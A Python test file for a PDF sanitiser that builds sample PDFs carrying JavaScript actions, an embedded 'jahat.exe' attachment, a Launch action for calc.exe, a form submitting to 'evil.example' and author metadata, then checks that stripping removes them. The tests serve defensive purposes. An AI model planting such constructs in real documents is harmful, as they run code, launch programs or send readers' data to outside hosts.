"""Of a PDF the pages are kept; what acts, attaches, or tells of its author is gone."""

from __future__ import annotations

import io
from contextlib import suppress
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from praja.kernel.errors import Invalid
from praja.kernel.files import documents
from tests.kernel.files.uploads import a_pdf

SCRIPT = "app.alert('jahat')"
SECRETS = (b"jahat", b"JavaScript", b"Launch", b"calc.exe", b"EmbeddedFile", b"SubmitForm", b"evil.example", b"Budi")


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(SCRIPT))


def annotation(**parts: Any) -> Dictionary:
    return Dictionary(Type=Name.Annot, Rect=Array([0, 0, 10, 10]), **parts)


def opening_script(document: pikepdf.Pdf, page: Any) -> None:
    document.Root.OpenAction = document.make_indirect(script())


def named_script(document: pikepdf.Pdf, page: Any) -> None:
    names = Dictionary(Names=Array([String("jahat"), document.make_indirect(script())]))
    document.Root.Names = document.make_indirect(Dictionary(JavaScript=names))


def page_action(document: pikepdf.Pdf, page: Any) -> None:
    page.obj.AA = Dictionary(O=script())


def attachment(document: pikepdf.Pdf, page: Any) -> None:
    document.attachments["jahat.exe"] = pikepdf.AttachedFileSpec(document, b"jahat", filename="jahat.exe")


def attached_annotation(document: pikepdf.Pdf, page: Any) -> None:
    spec = pikepdf.AttachedFileSpec(document, b"jahat", filename="jahat.exe").obj
    page.obj.Annots = Array([document.make_indirect(annotation(Subtype=Name.FileAttachment, FS=spec))])


def launching_link(document: pikepdf.Pdf, page: Any) -> None:
    action = Dictionary(S=Name.Launch, F=String("calc.exe"), Next=script())
    page.obj.Annots = document.make_indirect(Array([annotation(Subtype=Name.Link, A=action)]))


def form(document: pikepdf.Pdf, page: Any) -> None:
    send = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))
    widget = document.make_indirect(annotation(Subtype=Name.Widget, FT=Name.Btn, T=String("b"), A=send))
    page.obj.Annots = Array([widget])
    document.Root.AcroForm = Dictionary(Fields=Array([widget]), XFA=document.make_stream(b"jahat"))


def bookmark(document: pikepdf.Pdf, page: Any) -> None:
    item = document.make_indirect(Dictionary(Title=String("Bab 1"), A=script()))
    document.Root.Outlines = document.make_indirect(Dictionary(First=item, Last=item, Count=1))
    item.Parent = document.Root.Outlines


def author(document: pikepdf.Pdf, page: Any) -> None:
    document.docinfo["/Author"] = "Budi"
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = ["Budi"]
    page.obj.PieceInfo = Dictionary(App=Dictionary(Private=String("Budi")))


@pytest.mark.parametrize(
    "change",
    [
        opening_script,
        named_script,
        page_action,
        attachment,
        attached_annotation,
        launching_link,
        form,
        bookmark,
        author,
    ],
    ids=lambda change: change.__name__,
)
def test_what_acts_or_tells_is_gone_and_the_page_stays(change: Any) -> None:
    plain = {"compress_streams": False, "object_stream_mode": pikepdf.ObjectStreamMode.disable}
    sent = a_pdf(change, **plain)
    assert any(secret in sent for secret in SECRETS)
    stripped = readable(documents.strip(sent, field="file"))
    assert not [secret for secret in SECRETS if secret in stripped]
    assert b"Surat" in stripped


def readable(content: bytes) -> bytes:
    """The document with every stream unpacked."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(
            target,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
    return target.getvalue()


def test_a_jump_within_the_document_stays() -> None:
    def link(document: pikepdf.Pdf, page: Any) -> None:
        page.obj.Annots = Array(
            [annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=Array([page.obj, Name.Fit])))]
        )

    with pikepdf.open(io.BytesIO(documents.strip(a_pdf(link), field="file"))) as document:
        assert Name.GoTo == document.pages[0].obj.Annots[0].A.S


def test_a_protected_document_is_refused() -> None:
    protected = a_pdf(encryption=pikepdf.Encryption(owner="owner", user="rahasia"))
    with pytest.raises(Invalid, match=r"kata sandi|password"):
        documents.strip(protected, field="file")


def test_a_document_of_too_many_pages_is_refused(monkeypatch: Any) -> None:
    monkeypatch.setattr(documents, "MAX_PAGES", 2)

    def more(document: pikepdf.Pdf, page: Any) -> None:
        document.add_blank_page()
        document.add_blank_page()

    with pytest.raises(Invalid, match="2"):
        documents.strip(a_pdf(more), field="file")


@pytest.mark.parametrize("content", [b"%PDF-1.7\n", b"%PDF-1.7\n<script>alert(1)</script>", a_pdf()[:40]])
def test_what_only_claims_to_be_a_pdf_is_refused(content: bytes) -> None:
    with pytest.raises(Invalid):
        documents.strip(content, field="file")


@pytest.mark.parametrize("annotations", [Name.Foo, Array([1, 2]), Array([Name.Foo]), Dictionary()])
def test_a_malformed_document_is_refused_or_repaired_but_breaks_nothing(annotations: Any) -> None:
    def malform(document: pikepdf.Pdf, page: Any) -> None:
        page.obj.Annots = annotations

    with suppress(Invalid):
        documents.strip(a_pdf(malform), field="file")


def test_a_page_hidden_around_a_document_does_not_survive() -> None:
    stripped = documents.strip(a_pdf() + b"\n<script>alert(1)</script>", field="file")
    assert b"script" not in stripped
